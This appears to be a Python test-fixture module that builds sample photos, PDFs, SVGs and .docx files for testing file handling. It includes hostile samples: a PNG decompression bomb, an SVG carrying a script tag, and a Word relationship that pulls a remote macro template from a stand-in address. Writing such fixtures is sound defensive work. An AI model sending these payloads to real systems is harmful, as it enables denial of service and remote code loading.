"""Photos and documents, fine ones and hostile ones, made in memory."""

import io
import struct
import zipfile
import zlib

from PIL import Image, ImageDraw


def photo(size: tuple[int, int] = (3000, 2000), form: str = "JPEG", gps: bool = True, **options: object) -> bytes:
    """A photo with a red left edge; EXIF says: turn by 90°, taken at a place by a camera."""
    picture = Image.new("RGB", size, "white")
    ImageDraw.Draw(picture).rectangle((0, 0, size[0] // 4, size[1]), fill="red")
    out = io.BytesIO()
    if gps:
        exif = Image.Exif()
        exif[0x010F] = "SecretCamera"
        exif[0x0112] = 6  # to be turned clockwise
        exif.get_ifd(0x8825).update({1: "N", 2: (32.0, 1.0, 12.0), 3: "E", 4: (120.0, 16.0, 30.0)})
        options["exif"] = exif
    picture.save(out, form, **options)
    return out.getvalue()


def bomb(width: int = 50_000, height: int = 50_000) -> bytes:
    """A PNG of 2.5 billion dots in a few kilobytes."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    rows = zlib.compress(b"\0" * 1_000_000, 9)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def zipped(**members: bytes | str) -> bytes:
    """A zip; `__` in a name stands for `/`."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as book:
        for name, content in members.items():
            book.writestr(name.replace("__", "/").replace("TYPES", "[Content_Types].xml"), content)
    return out.getvalue()


def document(**more: bytes | str) -> bytes:
    """A plain .docx, as far as its list of contents tells."""
    return zipped(TYPES="<Types/>", **{"word__document.xml": "<document/>", **more})


PDF = b"%PDF-1.7\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
OUTSIDE = (
    '<Relationships><Relationship Id="r1" TargetMode="External" Target="http://192.0.2.1/x.dotm" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/></Relationships>'
)
LINK = OUTSIDE.replace("attachedTemplate", "hyperlink")
